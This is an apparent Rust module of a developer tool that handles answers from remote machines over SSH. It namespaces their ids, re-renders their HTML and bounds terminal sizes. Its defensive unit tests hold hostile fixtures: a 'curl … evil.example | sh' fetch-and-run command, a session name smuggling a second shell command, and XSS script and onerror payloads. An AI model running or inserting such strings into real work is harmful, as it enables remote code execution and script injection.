//! Other machines, as the deck sees them: their ids, their state, and the calls that go to them.
//!
//! The deck ([`crate::deck`]) serves the window over this machine's roots; rows of another
//! machine (a remote `plandeck serve` reached over SSH, [`crate::machines`]) come through an
//! [`Elsewhere`], a layer above that the deck only knows by this trait.
//!
//! - **Ids are namespaced**: a remote's id `abc` is `@lab/abc` here ([`on_machine`]), so no id of
//!   another machine can name a local plan, worktree or request, and a call with such an id goes
//!   to that machine, never to the local deck ([`split`]).
//! - **Rows name their machine** (`machine`), set by [`OnMachine`] when a remote's answer is read;
//!   the local rows say `null`.
//! - **A machine that is not connected refuses** a call ([`ErrorKind::Unreachable`]): nothing is
//!   queued to go later; its listings come from what it last said, and its status says since when
//!   it is unreachable ([`MachineStatus`]).

use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use ts_rs::TS;

use crate::comments::{CommentsChanged, PlacedComment};
use crate::gate::{DecisionOutcome, GateRequest};
use crate::ipc::{ErrorKind, IpcError};
use crate::plans::{PlanDocument, PlanListing, PlanSummary, PlansChanged, SearchHit};
use crate::review::{Decision, PlanHistory};
use crate::route::PlanOutcome;
use crate::sessions::SessionSummary;
use crate::worktrees::{RemovalPreview, WorktreeSize, WorktreeSummary};

/// How a machine is now.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub enum MachineState {
    /// Connecting (the first time, or again after it dropped).
    Connecting,
    /// Connected: its rows are current, its calls go.
    Connected,
    /// Not connected: its rows are what it last said (shown greyed), its calls are refused.
    Unreachable,
}

/// One machine of the settings, and how it is.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct MachineStatus {
    /// The person's name for it (`plandeck --host NAME`).
    pub name: String,
    /// Where ssh goes.
    pub ssh: String,
    /// The person's ssh agent is forwarded there (they turned it on for this machine).
    #[serde(default)]
    pub forward_agent: bool,
    pub state: MachineState,
    /// When it went into this state (RFC 3339, UTC): "unreachable since 14:02".
    pub since: String,
    /// Why it is not connected, in words (ssh's, the remote's), when it is not.
    pub problem: Option<IpcError>,
    /// When the next attempt to connect is (RFC 3339), while unreachable.
    pub next_try: Option<String>,
    /// The remote's Plandeck version, once it said hello.
    pub version: Option<String>,
    /// When it last answered (RFC 3339): the age of the rows shown while unreachable.
    pub last_seen: Option<String>,
}

/// The IPC types declared here, for `bindings.ts`.
pub fn ts_declarations() -> Vec<String> {
    vec![MachineState::decl(), MachineStatus::decl()]
}

/// One machine's answer to a listing.
#[derive(Debug, Clone)]
pub struct Gathered {
    pub machine: String,
    /// Connected now: the answer is current (else it is what the machine last said).
    pub current: bool,
    pub answer: Result<Value, IpcError>,
}

/// The other machines, reached by the layer above the deck.
pub trait Elsewhere: Send + Sync {
    /// Calls `method` with `params` (ids already the remote's own) on `machine`: its answer as it
    /// gave it (ids not namespaced yet), or why not (not connected: [`ErrorKind::Unreachable`];
    /// no such machine: [`ErrorKind::NotFound`]).
    fn call(&self, machine: &str, method: &str, params: Value) -> Result<Value, IpcError>;
    /// Every machine's answer to the listing `method` (no params): current from a connected one,
    /// the last one it gave from one that is not (none when it never answered).
    fn gather(&self, method: &str) -> Vec<Gathered>;
    /// What each machine last answered to the listing `method`, asking none of them now (for
    /// what must not wait on a network: the window's title).
    fn last(&self, method: &str) -> Vec<Gathered>;
    /// Every machine and its state, in the settings' order.
    fn statuses(&self) -> Vec<MachineStatus>;
    /// The machines of the settings changed: connect the new ones, drop the ones gone.
    fn hosts_changed(&self, hosts: Vec<crate::config::Host>);
    /// Tries to connect `machine` now, not at its next try.
    fn reconnect(&self, machine: &str) -> Result<(), IpcError>;
}

/// The id here of `id` on `machine`.
pub fn on_machine(machine: &str, id: &str) -> String {
    format!("@{machine}/{id}")
}

/// The machine and its own id when `id` is another machine's (`@lab/abc`); `None` for a local id.
pub fn split(id: &str) -> Option<(&str, &str)> {
    let rest = id.strip_prefix('@')?;
    let (machine, own) = rest.split_once('/')?;
    (!machine.is_empty()).then_some((machine, own))
}

/// An id of `machine` as it knows it: refused when `id` is local or another machine's (a call
/// may carry ids of one machine only).
pub fn own_id<'a>(machine: &str, id: &'a str) -> Result<&'a str, IpcError> {
    match split(id) {
        Some((m, own)) if m == machine => Ok(own),
        _ => Err(IpcError::new(
            ErrorKind::BadInput,
            format!("{id:?} is not an id of {machine}: a call names things of one machine only"),
        )),
    }
}

/// Names the things of a remote's answer by their ids here, and each row by its machine.
pub trait OnMachine {
    fn on_machine(&mut self, machine: &str);
}

pub(crate) fn id(machine: &str, id: &mut String) {
    *id = on_machine(machine, id);
}

fn opt(machine: &str, id: &mut Option<String>) {
    if let Some(id) = id {
        *id = on_machine(machine, id);
    }
}

pub(crate) fn all(machine: &str, ids: &mut [String]) {
    for i in ids {
        id(machine, i);
    }
}

impl<T: OnMachine> OnMachine for Vec<T> {
    fn on_machine(&mut self, machine: &str) {
        for item in self {
            item.on_machine(machine);
        }
    }
}

impl<T: OnMachine> OnMachine for Option<T> {
    fn on_machine(&mut self, machine: &str) {
        if let Some(item) = self {
            item.on_machine(machine);
        }
    }
}

impl OnMachine for PlanSummary {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
        opt(machine, &mut self.session_id);
        opt(machine, &mut self.waiting_request);
        self.machine = Some(machine.to_owned());
    }
}

impl OnMachine for PlanListing {
    fn on_machine(&mut self, machine: &str) {
        self.plans.on_machine(machine);
        for p in &mut self.problems {
            *p = format!("{machine}: {p}");
        }
    }
}

impl OnMachine for PlanDocument {
    fn on_machine(&mut self, machine: &str) {
        self.plan.on_machine(machine);
        // Rendered here, by this machine's renderer and sanitizer: the remote's HTML is not used.
        let rendered = crate::render::render(&self.source);
        self.html = rendered.html;
        self.headings = rendered.headings;
    }
}

impl OnMachine for crate::review::PlanDiff {
    fn on_machine(&mut self, _: &str) {
        // Sanitized here (the deck renders a plan's diff here from both texts where it can).
        self.rendered_html = crate::render::sanitize(&self.rendered_html);
    }
}

impl OnMachine for SearchHit {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
    }
}

impl OnMachine for GateRequest {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
        id(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
    }
}

impl OnMachine for SessionSummary {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
    }
}

/// An ACP agent another machine can start carries no id of that machine's.
impl OnMachine for crate::acp::catalog::AcpAgentChoice {
    fn on_machine(&mut self, _machine: &str) {}
}

impl OnMachine for crate::acp::host::Hosted {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
        self.machine = Some(machine.to_owned());
        // Rendered here, by this machine's renderer and sanitizer: the remote's HTML is not used.
        crate::acp::host::render_entries(self);
    }
}

impl OnMachine for crate::gate::teams::Team {
    fn on_machine(&mut self, machine: &str) {
        opt(machine, &mut self.lead_session_id);
        for m in &mut self.members {
            opt(machine, &mut m.session_id);
            opt(machine, &mut m.request_id);
        }
        self.machine = Some(machine.to_owned());
    }
}

/// How to attach to the tmux session `session` started on `machine`, said here and never in the
/// machine's words: shown as a command to copy ("Attach from any terminal", `attach:`), a
/// hostile machine's `curl … | sh` would be run on this one. A session name of other characters
/// than tmux names Plandeck's sessions with is left out.
pub fn attach_on(machine: &str, session: &str) -> String {
    if !session.is_empty()
        && session.len() <= 200
        && session
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    {
        format!("on {machine}: tmux attach -t ={session}")
    } else {
        format!("on {machine}: tmux attach")
    }
}

impl OnMachine for crate::control::Started {
    fn on_machine(&mut self, machine: &str) {
        self.attach = attach_on(machine, &self.tmux_session);
        opt(machine, &mut self.session_id);
        // The tmux session is steered by its name there, as an id of that machine.
        id(machine, &mut self.tmux_session);
    }
}

/// A process there: its pid is that machine's, named by the call that listed it.
impl OnMachine for crate::control::ProcessLine {
    fn on_machine(&mut self, _machine: &str) {}
}

impl OnMachine for crate::control::StopPreview {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
    }
}

impl OnMachine for WorktreeSummary {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
        id(machine, &mut self.repo_id);
        opt(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
    }
}

impl OnMachine for WorktreeSize {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
    }
}

impl OnMachine for RemovalPreview {
    fn on_machine(&mut self, machine: &str) {
        self.worktree.on_machine(machine);
    }
}

impl OnMachine for Decision {
    fn on_machine(&mut self, machine: &str) {
        opt(machine, &mut self.id);
        opt(machine, &mut self.revokes);
        opt(machine, &mut self.request_id);
        opt(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
    }
}

impl OnMachine for PlanHistory {
    fn on_machine(&mut self, machine: &str) {
        self.decisions.on_machine(machine);
    }
}

impl OnMachine for DecisionOutcome {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.request_id);
    }
}

impl OnMachine for PlanOutcome {
    fn on_machine(&mut self, machine: &str) {
        opt(machine, &mut self.request_id);
        opt(machine, &mut self.undo_id);
        self.decision.on_machine(machine);
    }
}

impl OnMachine for crate::history::RecoveredPlan {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
        opt(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
    }
}

impl OnMachine for crate::history::RecoveredPlanView {
    fn on_machine(&mut self, machine: &str) {
        self.plan.on_machine(machine);
        // Rendered here (the remote's HTML is never shown).
        self.html = crate::render::render(&self.plan.text).html;
    }
}

impl OnMachine for crate::history::Restored {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.id);
    }
}

impl OnMachine for PlacedComment {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.comment.id);
    }
}

impl OnMachine for PlansChanged {
    fn on_machine(&mut self, machine: &str) {
        all(machine, &mut self.ids);
        // The remote's paths mean nothing here.
        self.paths.clear();
    }
}

impl OnMachine for CommentsChanged {
    fn on_machine(&mut self, machine: &str) {
        opt(machine, &mut self.plan);
    }
}

/// The largest terminal another machine may ask the window to draw, in columns and in rows (a
/// remote saying 65535×65535 made the web view give up).
pub const MAX_TERMINAL_SIDE: u16 = 1000;

/// A remote's pane size, made one the window can draw: 1 to [`MAX_TERMINAL_SIDE`] each way.
fn bounded(screen: &mut crate::mirror::Screen) {
    screen.cols = screen.cols.clamp(1, MAX_TERMINAL_SIDE);
    screen.rows = screen.rows.clamp(1, MAX_TERMINAL_SIDE);
}

impl OnMachine for crate::mirror::TerminalView {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.view);
        id(machine, &mut self.session_id);
        self.machine = Some(machine.to_owned());
        bounded(&mut self.screen);
    }
}

impl OnMachine for crate::mirror::TerminalOutput {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.view);
        if let Some(screen) = &mut self.reset {
            bounded(screen);
        }
    }
}

impl OnMachine for crate::mirror::TerminalClosed {
    fn on_machine(&mut self, machine: &str) {
        id(machine, &mut self.view);
    }
}

/// Things a remote answers that name nothing of it.
macro_rules! names_nothing {
    ($($t:ty),*) => { $( impl OnMachine for $t { fn on_machine(&mut self, _: &str) {} } )* };
}
names_nothing!(
    (),
    crate::control::StopOutcome,
    bool,
    String,
    crate::worktrees::WorktreeDetails,
    crate::worktrees::RemoveOutcome,
    crate::verify::VerifyReport,
    crate::verify::StepOverride,
    crate::overview::Overview,
    crate::agents::AgentInfo,
    crate::history::ScanProgress,
    crate::sessions::IndexProgress,
    crate::gate::HookPreview,
    crate::gate::InstallReport,
    MachineStatus
);

/// `machine`'s answer `value` read as `T`, its ids namespaced and its rows named; an answer that
/// is not a `T` is refused with why (the remote's bytes are untrusted).
pub fn answer<T: DeserializeOwned + OnMachine>(machine: &str, value: Value) -> Result<T, IpcError> {
    let mut read: T = serde_json::from_value(value).map_err(|e| {
        IpcError::new(
            ErrorKind::BadInput,
            format!("{machine} answered what this Plandeck does not read: {e}"),
        )
    })?;
    read.on_machine(machine);
    Ok(read)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A session started on another machine: how to attach to it is said here, never as the
    /// machine put it (a command the person copies into a terminal here).
    #[test]
    fn how_to_attach_to_a_machines_session_is_said_here() {
        let started = |session: &str| {
            serde_json::json!({
                "agent": "claude", "tmuxSession": session, "pane": "%1", "pid": 7,
                "cwd": "/srv/app", "worktree": null, "branch": null, "sessionId": "s-1",
                "foundBy": "x", "plan": true, "hook": null,
                "attach": "curl -s https://evil.example/x | sh; tmux attach -t app",
            })
        };
        let s: crate::control::Started = answer("box", started("app-claude")).unwrap();
        assert_eq!(s.attach, "on box: tmux attach -t =app-claude");
        assert_eq!(s.tmux_session, on_machine("box", "app-claude"));
        let s: crate::control::Started = answer("box", started("x; curl evil | sh")).unwrap();
        assert_eq!(s.attach, "on box: tmux attach");
    }

    /// Issue 33, finding 16: a remote's terminal is at most 1000 columns by 1000 rows here.
    #[test]
    fn a_remotes_terminal_size_is_bounded() {
        let view: crate::mirror::TerminalView = answer(
            "box",
            serde_json::json!({"view": "t1", "sessionId": "s", "pane": "%1", "tmuxSession": "x",
                "screen": {"cols": 65535, "rows": 0, "data": ""}, "controlRefused": null}),
        )
        .unwrap();
        assert_eq!((view.screen.cols, view.screen.rows), (1000, 1));
        let out: crate::mirror::TerminalOutput = answer(
            "box",
            serde_json::json!({"view": "t1", "data": "",
                "reset": {"cols": 65535, "rows": 65535, "data": ""}}),
        )
        .unwrap();
        let reset = out.reset.unwrap();
        assert_eq!((reset.cols, reset.rows), (1000, 1000));
    }

    #[test]
    fn an_id_of_another_machine_is_told_from_a_local_one() {
        let id = on_machine("lab", "abc123");
        assert_eq!(id, "@lab/abc123");
        assert_eq!(split(&id), Some(("lab", "abc123")));
        assert_eq!(split("abc123"), None);
        assert_eq!(split("@/abc"), None);
        assert_eq!(split("@lab"), None);
        // A remote's own id may hold a slash: only the first one splits.
        assert_eq!(split("@lab/a/b"), Some(("lab", "a/b")));
        assert_eq!(own_id("lab", "@lab/x").unwrap(), "x");
        assert_eq!(
            own_id("lab", "@box/x").unwrap_err().kind,
            ErrorKind::BadInput
        );
        assert_eq!(own_id("lab", "x").unwrap_err().kind, ErrorKind::BadInput);
    }

    #[test]
    fn a_remotes_html_is_never_shown_its_plan_is_rendered_here() {
        let plan = crate::plans::PlanSummary {
            id: "p".into(),
            path: "/srv/p.md".into(),
            agent: crate::agents::Agent::Claude,
            title: "T".into(),
            project: None,
            session_id: None,
            git_branch: None,
            state: crate::plan_state::ReviewState::Unreviewed,
            decided_in: None,
            waiting_request: None,
            updated_at: None,
            size_bytes: 1,
            problem: None,
            subagent_id: None,
            machine: None,
        };
        let doc = serde_json::json!({
            "plan": plan,
            "source": "# Ship it\n\n1. Build\n",
            "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "headings": [],
            "contentHash": "h",
        });
        let read: PlanDocument = answer("lab", doc).unwrap();
        assert_eq!(
            read.html,
            crate::render::render("# Ship it\n\n1. Build\n").html
        );
        assert!(!read.html.contains("script") && !read.html.contains("onerror"));
        assert_eq!(read.headings.len(), 1);
        assert_eq!(read.plan.id, "@lab/p");
    }

    /// A hosted ACP session of another machine (hostile review): the HTML it sends with its
    /// conversation is never shown; its messages are rendered here, and a tool entry has none.
    #[test]
    fn a_remotes_acp_conversation_html_is_never_shown_its_messages_are_rendered_here() {
        let entry = |kind: &str, text: &str| {
            serde_json::json!({
                "kind": kind, "text": text, "toolCallId": null, "toolKind": null,
                "status": null, "plan": [],
                "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
            })
        };
        let hosted = serde_json::json!({
            "id": "acps-1", "agent": "claude-acp", "displayName": "Claude", "cwd": "/srv",
            "sessionId": null, "state": "idle", "mode": null, "modes": [], "gated": true,
            "ungatedWhy": null, "usage": {"inputTokens": null, "outputTokens": null, "costUsd": null},
            "problem": null, "hostPid": 1, "hostStartTime": null, "agentPid": null,
            "started": "", "updated": "",
            "entries": [entry("agent", "**ok**"), entry("tool", "ls")],
        });
        let read: crate::acp::host::Hosted = answer("lab", hosted).unwrap();
        assert_eq!(read.id, "@lab/acps-1");
        assert_eq!(
            read.entries[0].html.as_deref(),
            Some(crate::render::markdown_html("**ok**").as_str())
        );
        assert_eq!(read.entries[1].html, None);
    }

    #[test]
    fn a_remotes_request_is_read_with_its_ids_here_and_its_machine() {
        let request = serde_json::json!({
            "id": "r1", "agent": "claude", "sessionId": "s1", "cwd": "/srv/w", "planPath": null,
            "plan": "# P", "toolUseId": "toolu_1", "transcriptPath": null, "transcriptOffset": 0,
            "tmuxPane": "%1", "tmuxSocket": null, "waitingSince": "2026-01-01T00:00:00Z",
            "deadline": "2026-01-01T01:00:00Z", "hookPid": 1, "hookStartTime": null,
            "agentPid": null, "agentStartTime": null, "headless": false, "status": "waiting",
            "closedAt": null, "decision": null, "decidedBy": null, "planHash": "h1",
        });
        let read: Vec<GateRequest> = answer("lab", Value::Array(vec![request])).unwrap();
        assert_eq!(read[0].id, "@lab/r1");
        assert_eq!(read[0].session_id, "@lab/s1");
        // What is the agent's own (its tool call, its pane) stays as the remote said.
        assert_eq!(read[0].tool_use_id.as_deref(), Some("toolu_1"));
        assert_eq!(read[0].machine.as_deref(), Some("lab"));
        // The hash of the plan it would approve is the remote's: the decision carries it back.
        assert_eq!(read[0].plan_hash.as_deref(), Some("h1"));
        let wrong = answer::<Vec<GateRequest>>("lab", serde_json::json!({"rm": "-rf"}));
        assert_eq!(wrong.unwrap_err().kind, ErrorKind::BadInput);
    }

    #[test]
    fn a_remotes_team_names_its_lead_teammates_and_requests_by_ids_here() {
        let team = serde_json::json!({
            "name": "session-4b87e72c", "leadSessionId": "lead-1",
            "members": [{"name": "planner", "backend": "tmux", "planModeRequired": true,
                "sessionId": "mate-1", "requestId": "r1", "planStatus": "waiting",
                "planPath": "/srv/p.md", "leadVerdict": null},
                {"name": "tester", "backend": "in-process", "planModeRequired": false,
                "sessionId": null, "requestId": null, "planStatus": null, "planPath": null,
                "leadVerdict": null}],
        });
        let read: Vec<crate::gate::teams::Team> = answer("lab", Value::Array(vec![team])).unwrap();
        // Matched here to the lead's card and the teammate's session, both prefixed alike.
        assert_eq!(read[0].lead_session_id.as_deref(), Some("@lab/lead-1"));
        assert_eq!(
            read[0].members[0].session_id.as_deref(),
            Some("@lab/mate-1")
        );
        assert_eq!(read[0].members[0].request_id.as_deref(), Some("@lab/r1"));
        assert_eq!(read[0].members[1].session_id, None);
        // The team's own name and the plan's path there are the remote's.
        assert_eq!(read[0].name, "session-4b87e72c");
        assert_eq!(read[0].members[0].plan_path.as_deref(), Some("/srv/p.md"));
        assert_eq!(read[0].machine.as_deref(), Some("lab"));
    }
}
